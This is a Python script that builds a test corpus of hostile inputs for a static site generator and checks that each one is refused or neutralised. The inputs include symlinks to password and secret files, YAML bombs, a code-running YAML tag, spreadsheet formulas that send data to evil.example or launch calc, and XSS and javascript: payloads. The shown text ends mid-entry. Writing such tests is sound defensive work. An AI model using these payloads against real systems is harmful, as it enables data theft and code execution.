"""Write the hostile corpus: one folder per attack, each with ``expected.txt``.

A case folder holds ``project/`` (files laid over a project made by
``qisite new``, copied into the test network as projects/hostile) and/or
``network/`` (files laid over the network folder itself), and ``expected.txt``
(YAML; not named *.yaml so that qisite never reads it) with the exact outcome:

- ``outcome: problem``: the build succeeds, reports each listed problem
  (file, severity, a substring of the message), leaves the hostile project out
  when an error is listed, and builds the good project;
- ``outcome: refused``: the build stops with exit 2 and the given message,
  and no source file is changed or lost;
- ``outcome: page``: the build succeeds and the named pages hold (and do not
  hold) the given text.

``fifos`` lists paths made into named pipes, ``big_files`` paths written when
the case is built, as ``[head, piece, times, tail]`` (kept out of git: a
megabyte file is four short values here), ``scaffolds`` extra project folders made by ``qisite new``, and
``environment`` variables set for the build, ``written`` files written into the
network when the case is built (path → text: kept out of git, where a ``_site/``
would be build output committed), ``edits`` top-level lines of a
scaffolded file replaced (key → the new line). ``absent`` lists text that must
not appear in any built file, ``output_absent`` text that must not appear in
what the build prints, ``max_output`` how many characters the case's lines of
that report may take, and ``alone: true`` builds a case in a network of its own
even though it touches only its project (its warnings concern every project).
Run this script after changing a case.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import yaml

import qisite

HERE = Path(__file__).parent
STORY_PIECES_2MB = 2 * 1024 * 1024 // len("A story. ") + 1  # "A story. " repeated to just over 2 MB

MEASURES = """\
measures:
  - id: main-outcome
    title: People from the affected group seen (%)
    type: outcome
    definition: Of all people referred each month, the number from the affected group who attended.
    data: data/main-outcome.csv
    x: month
    y: seen
    n: referred
    chart: p
    period: month
    unit: {unit}
    multiply: 100
    direction: increase
    target: 70
  - id: by-group
    title: Attendance by group
    type: process
    definition: Attendance by group each month.
    data: data/by-group.csv
    x: month
    y: seen
    n: referred
    group: group
    reference_group: White British
    chart: p
    period: month
    unit: "%"
    multiply: 100
    direction: increase
  - id: reasons
    title: Reasons for missed appointments
    type: process
    definition: Reasons given for missed first appointments.
    data: data/reasons.csv
    x: reason
    y: count
    chart: pareto
    unit: reasons
"""


GAP_NAMED_MEASURE = """\
  - id: by-group-gap
    title: A measure named like the gap chart of by-group
    type: process
    definition: Attendance each month.
    data: data/main-outcome.csv
    x: month
    y: seen
    n: referred
    chart: p
    period: month
"""


def by_group(group: str) -> str:
    rows = ["month,group,seen,referred"]
    for month in range(1, 13):
        rows.append(f"2024-{month:02d}-01,White British,{20 + month % 3},40")
        rows.append(f"2024-{month:02d}-01,{_csv(group)},{15 + month % 4},40")
    return "\n".join(rows) + "\n"


def reasons(category: str) -> str:
    return f"reason,count\nForgot,12\n{_csv(category)},9\nTransport,4\n"


def _csv(text: str) -> str:
    return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\n') else text


def measures_case(unit: str = '"%"', group: str = "Black British", category: str = "No interpreter",
                  extra: str = "", title: str = "People from the affected group seen (%)") -> dict[str, str]:
    text = MEASURES.format(unit=unit).replace("title: People from the affected group seen (%)", f"title: {title}", 1)
    return {"measures.yaml": text + extra, "data/by-group.csv": by_group(group),
            "data/reasons.csv": reasons(category), "data/main-outcome.csv": MAIN_OUTCOME}


MAIN_OUTCOME = "month,seen,referred\n" + "".join(f"2024-{m:02d}-01,{20 + m % 4},{40 + m % 3}\n" for m in range(1, 13))
"""main-outcome's data with one row a month (the scaffold's is stratified; these cases' measures.yaml is not)."""


def many_groups(count: int) -> dict[str, str]:
    rows = ["month,group,seen,referred"]
    for month in range(1, 13):
        rows += [f"2024-{month:02d}-01,Group {g:03d},{10 + g % 5},40" for g in range(count)]
    case = measures_case()
    case["data/by-group.csv"] = "\n".join(rows).replace("Group 000", "White British") + "\n"
    return case


def small_counts(overall: list[tuple[int, int]]) -> str:
    return "month,seen,referred\n" + "".join(f"2024-{m:02d}-01,{y},{n}\n" for m, (y, n) in enumerate(overall, start=1))


def cycles(count: int) -> str:
    return "cycles:\n" + "".join(
        f"  - id: pdsa-{i}\n    title: Test {i}\n    change_idea: translated-leaflets\n    start: 2024-01-01\n"
        f"    plan: Plan {i}.\n    prediction: More people attend.\n" for i in range(1, count + 1))


def story(body: str) -> dict[str, str]:
    return {"story.md": "# Our story\n\n" + body + "\n"}


PNG = "\udc89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"  # a PNG's first bytes (\udc89 is written as the byte 0x89)
SVG_OK = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
          'viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
          '<rect width="10" height="10" fill="url(#g)" inkscape:label="background"/><text x="1" y="5">Ward 7</text></svg>\n')


def deep_yaml(levels: int) -> str:
    return "cycles: " + "[" * levels + "]" * levels + "\n"


def laughs() -> str:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 10)]
    return "\n".join(lines) + "\ncategories:\n  - name: x\n    causes: *a9\n"


LINK_OUT = "links to a file outside its folder"
NHS = "943 476 5919"  # NHS England's published test number: its check digit is right
NHS_ERROR = "looks like an NHS number"
POSTCODE_ERROR = "looks like a full postcode"
PASSWD = "root:x:0:0"

CASES: dict[str, dict] = {
    # --- files outside the project folder (links), devices, pipes, sizes ---
    "story-link-to-environment": dict(
        why="story.md linked to the build process's environment (a CI token) is refused, never published",
        project={"story.md": "->/proc/self/environ"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-link-to-passwd": dict(
        why="story.md linked to the system's password file is refused",
        project={"story.md": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-link-to-stdin": dict(
        why="story.md linked to standard input is refused instead of hanging the build",
        project={"story.md": "->/dev/stdin"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-link-to-endless-device": dict(
        why="story.md linked to an endless device is refused instead of exhausting memory",
        project={"story.md": "->/dev/zero"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-named-pipe": dict(
        why="story.md that is a named pipe is refused without blocking",
        fifos=["projects/hostile/story.md"],
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error",
                                                        message="'story.md' is not a regular file (it is a pipe)")])),
    "story-too-large": dict(
        why="a story.md over the file-size limit is a located error naming the limit and its variable",
        big_files={"projects/hostile/story.md": ["", "A story. ", STORY_PIECES_2MB, ""]}, environment={"QISITE_MAX_FILE_MB": "1"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error",
                                                        message="'story.md' is larger than the limit of 1 MB")])),
    "project-yaml-link-to-passwd": dict(
        why="project.yaml linked out of the folder is refused",
        project={"project.yaml": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/project.yaml", severity="error",
                                     message="'project.yaml' " + LINK_OUT)])),
    "measures-yaml-link-to-hostname": dict(
        why="measures.yaml linked out of the folder is refused",
        project={"measures.yaml": "->/etc/hostname"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/measures.yaml", severity="error",
                                                        message="'measures.yaml' " + LINK_OUT)])),
    "pdsa-yaml-link-to-passwd": dict(
        why="an optional file (pdsa.yaml) linked out of the folder is refused too",
        project={"pdsa.yaml": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/pdsa.yaml", severity="error", message="'pdsa.yaml' " + LINK_OUT)])),
    "data-link-to-passwd": dict(
        why="a CSV data file linked out of the folder is refused (as before)",
        project={"data/main-outcome.csv": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/measures.yaml", severity="error",
                                     message="the data file 'data/main-outcome.csv' is outside the project folder")])),
    "data-too-many-rows": dict(
        why="a CSV over the row limit is a located error naming the limit and its variable",
        environment={"QISITE_MAX_ROWS": "30"},   # above the scaffold's 24 rows (12 months of 2 groups)
        project={"data/main-outcome.csv": "month,group,seen,referred\n" + "".join(
            f"{2022 + m // 12}-{m % 12 + 1:02d}-01,Affected group,20,40\n" for m in range(40))},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/data/main-outcome.csv", severity="error",
                                                        message="the data file has more than 30 rows, the limit")])),
    "project-folder-link-out": dict(
        why="a project folder that is a link to a folder outside projects/ is not read",
        network={"projects/stolen": "->../elsewhere/stolen"}, scaffolds=["elsewhere/stolen"],
        expected=dict(outcome="problem", problems=[dict(file="projects/stolen", severity="error",
                                                        message="the project folder 'stolen' is a link to a folder outside 'projects'")],
                      pages={"projects/stolen/index.html": dict(exists=False)})),
    "theme-template-link-to-passwd": dict(
        why="a network template linked out of templates/ stops the build with its name (a theme is the whole network's)",
        network={"templates/home.html": "->/etc/passwd"},
        expected=dict(outcome="refused", message="home.html: 'home.html' links to a file outside its folder 'templates'")),
    "theme-asset-link-to-passwd": dict(
        why="a network static file linked out of templates/static/ stops the build with its name",
        network={"templates/static/site.css": "->/etc/passwd"},
        expected=dict(outcome="refused", message="site.css: 'site.css' links to a file outside its folder 'static'")),
    # --- YAML bombs ---
    "yaml-nested-300-levels": dict(
        why="300 levels of nesting (a 623-byte file crashed check and build) is a located error",
        project={"pdsa.yaml": deep_yaml(300)},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/pdsa.yaml", severity="error",
                                                        message="nests lists and mappings more than 50 levels deep")])),
    "yaml-billion-laughs": dict(
        why="aliases that expand to a billion values are refused before they are expanded",
        project={"fishbone.yaml": laughs()},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/fishbone.yaml", severity="error",
                                                        message="more than the limit of 100,000 beyond the file's own")])),
    # --- the output folder ---
    "output-projects-with-forged-marker": dict(
        why="output: projects with a committed .qisite-build marker is refused; projects/ is untouched",
        network={"site.yaml": "title: Hostile\noutput: projects\n", "projects/.qisite-build": "token: forged\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it is inside the projects folder")),
    "output-network-root-with-forged-marker": dict(
        why="output: . with a committed marker is refused; the checkout (and .git) is untouched",
        network={"site.yaml": "title: Hostile\noutput: .\n", ".qisite-build": "token: forged\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it is the network folder itself")),
    "output-parent-folder": dict(
        why="output: .. (a folder holding the network) is refused",
        network={"site.yaml": "title: Hostile\noutput: ..\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it contains the network folder")),
    "output-forged-marker-in-docs": dict(
        why="a committed marker in a folder of documents proves nothing: the folder is not replaced",
        network={"site.yaml": "title: Hostile\noutput: docs\n", "docs/.qisite-build": "token: forged\n",
                 "docs/handbook.md": "# The team handbook\n"},
        expected=dict(outcome="refused", message="marker does not match qisite's record")),
    "output-git-folder": dict(
        why="output: .git is refused",
        network={"site.yaml": "title: Hostile\noutput: .git\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it is inside .git/")),
    # --- team text that once stopped every team's build ---
    "dollar-maths-in-unit": dict(
        why="a $…$ in a unit is text, not maths: the build succeeds (it aborted every team's build, exit 3)",
        project=measures_case(unit='"$\\\\frac{1}{0}$ per $1,000"'),
        expected=dict(outcome="page", pages={"projects/hostile/main-outcome.svg": dict(contains=[">$\\frac{1}{0}$ per $1,000</text>"])})),
    "dollar-maths-in-group": dict(
        why="a $…$ in a group name is drawn as written",
        project=measures_case(group="$\\alpha^{2}$ group"),
        expected=dict(outcome="page", pages={"projects/hostile/by-group.svg": dict(contains=[">$\\alpha^{2}$ group</text>"]),
                                             "projects/hostile/index.html": dict(contains=["$\\alpha^{2}$ group"])})),
    "dollar-maths-in-pareto-category": dict(
        why="a $…$ in a Pareto category is drawn as written",
        project=measures_case(category="$\\sqrt{x}$ $5 fee"),
        expected=dict(outcome="page", pages={"projects/hostile/reasons.svg": dict(contains=[">$\\sqrt{x}$ $5 fee</text>"])})),
    "broken-maths-in-unit": dict(
        why="a malformed $…$ (which matplotlib cannot parse) is text too",
        project=measures_case(unit='"$\\\\frac{$ per {"'),
        expected=dict(outcome="page", pages={"projects/hostile/main-outcome.svg": dict(contains=[">$\\frac{$ per {</text>"])})),
    # --- downloads and pages ---
    "formula-cells-in-downloads": dict(
        why="download cells a spreadsheet would run are neutralised with a leading apostrophe (OWASP)",
        project=measures_case(group='=HYPERLINK("http://evil.example/?d="&A1,"Open")', category="@SUM(1+9)*cmd|' /C calc'!A0"),
        expected=dict(outcome="page", pages={
            "projects/hostile/by-group.csv": dict(contains=['"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"'],
                                                  absent=['\n=HYPERLINK', ',=HYPERLINK', '\n"=HYPERLINK']),
            "projects/hostile/reasons.csv": dict(contains=["'@SUM(1+9)*cmd|' /C calc'!A0"], absent=["\n@SUM"])})),
    "external-image-in-story": dict(
        why="a Markdown image on another host is not loaded: it becomes a link",
        project={"story.md": "# Story\n\n![our ward](https://tracker.evil.example/pixel.png?team=1)\n"},
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(
            contains=['<a class="image-not-shown" href="https://tracker.evil.example/pixel.png?team=1" rel="external">[image: our ward]</a>'],
            absent=["<img src=\"https://tracker"])})),
    "bidi-override-in-team-name": dict(
        why="a right-to-left override in a team name is isolated so it cannot reverse the rest of the line",
        edits={"projects/hostile/project.yaml": {"team": "team: Ward \u202e7 drawkcab"}},
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(contains=["\u2068Ward \u202e7 drawkcab\u2069"])})),
    "terminal-escape-in-measure-file": dict(
        why="terminal control sequences in a team's text are shown as escapes by check and build, never obeyed",
        project={"data/main-outcome.csv": "month,group,seen,referred\n2024-01-01,Affected group,\x1b]0;owned\x07\x1b[2J,40\n"},
        expected=dict(outcome="problem", output_absent=["\x1b"],
                      problems=[dict(file="projects/hostile/data/main-outcome.csv", severity="error", message="\\x1b]0;owned\\x07")])),

    # --- more links, devices and pipes ---
    "story-link-to-sibling-project": dict(
        why="story.md linked to another project's file (inside projects/, outside its own folder) is refused",
        project={"story.md": "->../good/story.md"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-link-to-dotenv": dict(
        why="story.md linked to the checkout's .env file (CI secrets) is refused; the secret is in no built file",
        network={".env": "DEPLOY_TOKEN=ghp_secretvalue0123456789\n"}, project={"story.md": "->../../.env"},
        expected=dict(outcome="problem", absent=["ghp_secretvalue0123456789"],
                      problems=[dict(file="projects/hostile/story.md", severity="error", message=LINK_OUT)])),
    "story-link-to-folder": dict(
        why="story.md that is a link to a folder inside the project is refused as not a regular file",
        project={"story.md": "->data"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md", severity="error",
                                                        message="'story.md' is not a regular file (it is a folder)")])),
    "story-link-inside-folder": dict(
        why="a link that stays inside the project folder is an ordinary file: the story is published",
        project={"story.md": "->notes/story-text.md", "notes/story-text.md": "# Our story\n\nShared notes kept in one place.\n"},
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(contains=["Shared notes kept in one place."])})),
    "drivers-yaml-link-to-passwd": dict(
        why="drivers.yaml linked out of the folder is refused",
        project={"drivers.yaml": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/drivers.yaml", severity="error", message="'drivers.yaml' " + LINK_OUT)])),
    "fishbone-yaml-link-to-passwd": dict(
        why="fishbone.yaml linked out of the folder is refused",
        project={"fishbone.yaml": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/fishbone.yaml", severity="error", message="'fishbone.yaml' " + LINK_OUT)])),
    "data-link-to-endless-device": dict(
        why="a CSV data file linked to /dev/zero is refused instead of exhausting memory",
        project={"data/main-outcome.csv": "->/dev/zero"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/measures.yaml", severity="error",
                                                        message="the data file 'data/main-outcome.csv' is outside the project folder")])),
    "data-link-to-stdin": dict(
        why="a CSV data file linked to standard input is refused instead of hanging the build",
        project={"data/main-outcome.csv": "->/dev/stdin"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/measures.yaml", severity="error",
                                                        message="the data file 'data/main-outcome.csv' is outside the project folder")])),
    "data-named-pipe": dict(
        why="a CSV data file that is a named pipe is refused without blocking",
        fifos=["projects/hostile/data/main-outcome.csv"],
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/data/main-outcome.csv", severity="error",
                                                        message="'main-outcome.csv' is not a regular file (it is a pipe)")])),
    "site-yaml-link-to-passwd": dict(
        why="site.yaml linked to the password file is refused with a located error; the network builds with the defaults",
        network={"site.yaml": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="site.yaml", severity="error", message="'site.yaml' links to a file outside its folder")])),
    "theme-template-named-pipe": dict(
        why="a network template that is a named pipe stops the build with its name instead of hanging it",
        network={"templates/README.txt": "the network's theme\n"}, fifos=["templates/home.html"],
        expected=dict(outcome="refused", message="'home.html' is not a regular file (it is a pipe)")),
    "project-folder-link-to-etc": dict(
        why="a project folder linked to /etc is not read",
        network={"projects/etc": "->/etc"},
        expected=dict(outcome="problem", absent=[PASSWD], pages={"projects/etc/index.html": dict(exists=False)})),
    # --- the output folder ---
    "output-inside-a-project": dict(
        why="an output inside a project folder is refused: the build would publish into (and replace) a team's files",
        network={"site.yaml": "title: Hostile\noutput: projects/good/site\n"},
        expected=dict(outcome="refused", message="refusing to write the site here: it is inside the projects folder")),
    "output-templates-folder": dict(
        why="output: templates is refused: the theme is source",
        network={"site.yaml": "title: Hostile\noutput: templates\n", "templates/README.txt": "the network's theme\n"},
        expected=dict(outcome="refused", message="refusing to write the site here")),
    "output-cache-folder": dict(
        why="output: .qisite-cache is refused: the output's own records live there",
        network={"site.yaml": "title: Hostile\noutput: .qisite-cache\n"},
        expected=dict(outcome="refused", message="refusing to write the site here")),
    "output-holds-another-network": dict(
        why="an output folder holding a site.yaml (another network) is refused",
        network={"site.yaml": "title: Hostile\noutput: other\n", "other/site.yaml": "title: Another network\n"},
        expected=dict(outcome="refused", message="refusing to write the site here")),
    "output-default-with-forged-marker": dict(
        why="a committed _site/ holding a forged marker is not replaced: the marker proves nothing without qisite's record",
        written={"_site/.qisite-build": "token: forged\n", "_site/notes.txt": "not a site\n"},
        expected=dict(outcome="refused", message="marker does not match qisite's record")),
    "output-on-a-read-only-file-system": dict(
        why="an output qisite cannot write (a read-only file system) is a plain message with exit 2, not a bug",
        network={"site.yaml": "title: Hostile\noutput: /proc/qisite-hostile-output\n"},
        expected=dict(outcome="refused", message="qisite-hostile-output")),
    # --- patient identifiers ---
    "nhs-number-as-pareto-category": dict(
        why="an NHS number as a Pareto category is a located error; it reaches no page, chart or download",
        project=measures_case(category=NHS),
        expected=dict(outcome="problem", absent=[NHS, NHS.replace(" ", "")],
                      problems=[dict(file="projects/hostile/data/reasons.csv:3", severity="error", message=NHS_ERROR)])),
    "nhs-number-as-group": dict(
        why="an NHS number as a group name is a located error at the first row that uses it",
        project=measures_case(group=NHS.replace(" ", "")),
        expected=dict(outcome="problem", absent=[NHS.replace(" ", "")],
                      problems=[dict(file="projects/hostile/data/by-group.csv:3", severity="error", message=NHS_ERROR)])),
    "postcode-as-group": dict(
        why="a full postcode as a group name is a located error (a district such as E1 would be fine)",
        project=measures_case(group="SW1A 1AA"),
        expected=dict(outcome="problem", absent=["SW1A 1AA"],
                      problems=[dict(file="projects/hostile/data/by-group.csv:3", severity="error", message=POSTCODE_ERROR)])),
    "date-of-birth-as-group": dict(
        why="a date of birth as a group name is a located error",
        project=measures_case(group="12/03/1987"),
        expected=dict(outcome="problem", absent=["12/03/1987"],
                      problems=[dict(file="projects/hostile/data/by-group.csv:3", severity="error", message="date of birth")])),
    "nhs-number-in-part-label": dict(
        why="an NHS number in a label that the chart would draw is a located error at its line in measures.yaml",
        project=measures_case(extra="    parts:\n      - start: 2024-06-01\n        label: After seeing 943 476 5919\n"),
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/measures.yaml:", severity="error", message=NHS_ERROR)])),
    "nhs-number-in-pdsa-plan": dict(
        why="an NHS number in a PDSA cycle's free text is a located error at its line",
        edits={"projects/hostile/pdsa.yaml": {"    plan": f"    plan: Call the patient with NHS number {NHS} first."}},
        expected=dict(outcome="problem", absent=[NHS],
                      problems=[dict(file="projects/hostile/pdsa.yaml:9", severity="error", message=NHS_ERROR)])),
    "nhs-number-in-story": dict(
        why="an NHS number in story.md is a located error at its line",
        project=story(f"We met Mrs A (NHS number {NHS}) at the clinic."),
        expected=dict(outcome="problem", absent=[NHS],
                      problems=[dict(file="projects/hostile/story.md:3", severity="error", message=NHS_ERROR)])),
    "postcode-in-project-title": dict(
        why="a full postcode in a project's title is a located error at its line in project.yaml",
        edits={"projects/hostile/project.yaml": {"title": "title: Outreach to the family at E1 4DG"}},
        expected=dict(outcome="problem", absent=["E1 4DG"],
                      problems=[dict(file="projects/hostile/project.yaml:3", severity="error", message=POSTCODE_ERROR)])),
    "nhs-number-column-in-csv": dict(
        why="a CSV column of NHS numbers, even one no measure uses, is refused before it can be copied to a download",
        project={"data/main-outcome.csv": "month,seen,referred,nhs_number\n" + "".join(
            f"2024-{m:02d}-01,{20 + m},40,{NHS.replace(' ', '')}\n" for m in range(1, 13))},
        expected=dict(outcome="problem", absent=[NHS.replace(" ", "")],
                      problems=[dict(file="projects/hostile/data/main-outcome.csv:1", severity="error", message="nhs_number")])),
    "patient-name-column-in-csv": dict(
        why="a CSV column named like patients' names is refused",
        project={"data/main-outcome.csv": "month,seen,referred,Patient Name\n" + "".join(
            f"2024-{m:02d}-01,{20 + m},40,Jane Doe\n" for m in range(1, 13))},
        expected=dict(outcome="problem", absent=["Jane Doe"],
                      problems=[dict(file="projects/hostile/data/main-outcome.csv:1", severity="error", message="Patient Name")])),
    # --- small numbers ---
    "small-count-in-table-and-download": dict(
        why="'1 of 3 patients' is published as <5 in the page table and the download, never exactly",
        project={"data/main-outcome.csv": small_counts([(21, 40), (19, 38), (1, 3), (22, 41), (24, 44), (20, 39),
                                                         (23, 40), (25, 42), (26, 43), (24, 40), (27, 44), (26, 41)])},
        expected=dict(outcome="page", pages={
            "projects/hostile/main-outcome.csv": dict(contains=["2024-03-01,<5,,"], absent=["33.33"]),
            "projects/hostile/index.html": dict(contains=["&lt;5"])})),
    "small-count-secondary-suppression": dict(
        why="a lone hidden count is joined by the next smallest of its centre-line block, so no total gives it back",
        project={"data/main-outcome.csv": small_counts([(21, 40), (19, 38), (2, 9), (22, 41), (24, 44), (20, 39),
                                                         (23, 40), (25, 42), (26, 43), (24, 40), (27, 44), (26, 41)])},
        expected=dict(outcome="page", pages={
            "projects/hostile/main-outcome.csv": dict(contains=["2024-03-01,<5,,", ",suppressed,,"])})),
    "small-counts-not-in-search-or-feed": dict(
        why="the search index and the feed carry no figure of a hidden count",
        project={"data/main-outcome.csv": small_counts([(21, 40), (19, 38), (1, 3), (22, 41), (24, 44), (20, 39),
                                                         (23, 40), (25, 42), (26, 43), (24, 40), (27, 44), (26, 41)])},
        expected=dict(outcome="page", pages={"assets/search-index.js": dict(absent=["1 of 3", "33.3", "33%"]),
                                             "assets/search/hostile.js": dict(absent=["1 of 3", "33.3", "33%"]),
                                             "feed.xml": dict(absent=["1 of 3", "33.3", "33%"])})),
    # --- $ in titles ---
    "dollar-maths-in-measure-title": dict(
        why="a $…$ in a measure title is text on the chart and the page",
        project=measures_case(title="Cost $\\frac{a}{b}$ per $100"),
        expected=dict(outcome="page", pages={"projects/hostile/main-outcome.svg": dict(contains=["$\\frac{a}{b}$ per $100"]),
                                             "projects/hostile/index.html": dict(contains=["$\\frac{a}{b}$ per $100"])})),
    "dollar-maths-in-project-title": dict(
        why="a $…$ in a project title is text",
        edits={"projects/hostile/project.yaml": {"title": "title: Saving $\\mathbf{5}$ a visit"}},
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(contains=["Saving $\\mathbf{5}$ a visit"])})),
    # --- YAML ---
    "yaml-nested-mappings-in-measures": dict(
        why="deeply nested mappings in measures.yaml are a located error, not a crash",
        project={"measures.yaml": "measures:\n" + "".join("  " * i + f"k{i}:\n" for i in range(1, 80)) + "  " * 80 + "x: 1\n"},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/measures.yaml", severity="error",
                                                        message="nests lists and mappings more than 50 levels deep")])),
    "yaml-alias-bomb-in-measures": dict(
        why="an alias bomb in measures.yaml is refused before it is expanded",
        project={"measures.yaml": laughs().replace("categories:\n  - name: x\n    causes: *a9\n", "measures: *a9\n")},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/measures.yaml", severity="error",
                                                        message="more than the limit of 100,000 beyond the file's own")])),
    "yaml-python-object-tag": dict(
        why="a YAML tag that would run code (!!python/object/apply) is a located error; nothing runs",
        edits={"projects/hostile/project.yaml": {"title": "title: !!python/object/apply:os.system ['echo pwned > pwned.txt']"}},
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/project.yaml:3:8", severity="error",
                                                        message="the tag '!!python/object/apply:os.system' is not allowed")])),
    # --- CSV ---
    "data-huge-cell": dict(
        why="a 5 MB cell in a number column is a located error whose message stays short",
        big_files={"projects/hostile/data/main-outcome.csv": ["month,seen,referred\n2024-01-01,", "9", 5_000_000, "x,40\n"]},
        expected=dict(outcome="problem", max_output=20_000,
                      problems=[dict(file="projects/hostile/data/main-outcome.csv:2", severity="error",
                                     message="the CSV is malformed: field larger than field limit")])),
    "data-many-columns": dict(
        why="a header of 200,000 columns is read within the limits and reported briefly",
        project={"data/main-outcome.csv": "month,seen,referred," + ",".join(f"c{i}" for i in range(200_000)) + "\n"
                 + "".join(f"2024-{m:02d}-01,{20 + m},40\n" for m in range(1, 13))},
        expected=dict(outcome="page", max_output=20_000, pages={"projects/hostile/index.html": dict()})),
    "formula-cells-plus-minus-tab": dict(
        why="cells starting with +, - (not a number), a tab or a carriage return are neutralised in downloads",
        project=measures_case(group="+cmd|' /C calc'!A0", category="-2+3+cmd|' /C calc'!A0"),
        expected=dict(outcome="page", pages={
            "projects/hostile/by-group.csv": dict(contains=["'+cmd|' /C calc'!A0"], absent=["\n+cmd", ",+cmd"]),
            "projects/hostile/reasons.csv": dict(contains=["'-2+3+cmd|' /C calc'!A0"], absent=["\n-2+3", ",-2+3"])})),
    # --- images and links in Markdown ---
    "protocol-relative-image": dict(
        why="an image at //host (another host, whatever the page's scheme) is a link, not loaded",
        project=story("![pixel](//tracker.evil.example/p.png)"),
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(
            contains=['href="//tracker.evil.example/p.png" rel="external"'], absent=['<img src="//'])})),
    "external-image-in-pdsa-study": dict(
        why="a remote image in a PDSA cycle's text is a link on the project page and the idea page",
        edits={"projects/hostile/pdsa.yaml": {"    prediction": "    prediction: See ![chart](https://evil.example/c.png)"}},
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(
            contains=['href="https://evil.example/c.png" rel="external"'], absent=['<img src="https://evil'])})),
    "svg-data-uri-image": dict(
        why="an image given as a data: SVG (which could script) is not an image: it is shown as the text written",
        project=story("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(
            contains=["<p>![x](data:image/svg+xml;base64,"], absent=['src="data:', 'href="data:'])})),
    "javascript-link-in-story": dict(
        why="a javascript: link in a story is not a link (it is shown as the text written)",
        project=story("[open the report](javascript:alert(document.domain))"),
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(
            contains=["open the report"], absent=['href="javascript:'])})),
    "raw-html-in-story": dict(
        why="raw HTML in a story is shown as text, never run",
        project=story('<script>alert("story")</script><img src=x onerror=alert(1)>'),
        expected=dict(outcome="page", pages={"projects/hostile/index.html": dict(
            contains=["&lt;script&gt;alert(&quot;story&quot;)&lt;/script&gt;"], absent=['<script>alert("story")', "<img src=x"])})),
    "image-from-project-folder": dict(
        why="an image kept in the project folder is copied beside the page, unchanged, and shown",
        project={**story("![The new leaflet](images/leaflet.png)\n\n![Drawing](<images/ward plan.svg>)"),
                 "images/leaflet.png": PNG, "images/ward plan.svg": SVG_OK},
        expected=dict(outcome="page", pages={
            "projects/hostile/index.html": dict(contains=['<img src="images/images/leaflet.png" alt="The new leaflet" loading="lazy">',
                                                          '<img src="images/images/ward%20plan.svg" alt="Drawing" loading="lazy">']),
            "projects/hostile/images/images/leaflet.png": dict(contains=["PNG"]),
            "projects/hostile/images/images/ward plan.svg": dict(contains=["Ward 7"])})),
    "image-missing": dict(
        why="an image the story names but the folder lacks is a located error at its line",
        project=story("Before.\n\n![The new leaflet](images/leaflet.png)"),
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md:5", severity="error",
                                                        message="the image 'images/leaflet.png' is not in the project folder")])),
    "image-climbs-out-of-folder": dict(
        why="an image path climbing out of the project folder is a located error; the file is not copied",
        project=story("![secret](../../site.yaml)"),
        expected=dict(outcome="problem", problems=[dict(file="projects/hostile/story.md:3", severity="error",
                                                        message="the image '../../site.yaml' is not in the project folder")])),
    "image-link-to-passwd": dict(
        why="an image that is a link to /etc/passwd is a located error; the file is not copied",
        project={**story("![x](images/p.png)"), "images/p.png": "->/etc/passwd"},
        expected=dict(outcome="problem", absent=[PASSWD],
                      problems=[dict(file="projects/hostile/story.md:3", severity="error", message=LINK_OUT)])),
    "svg-image-with-script": dict(
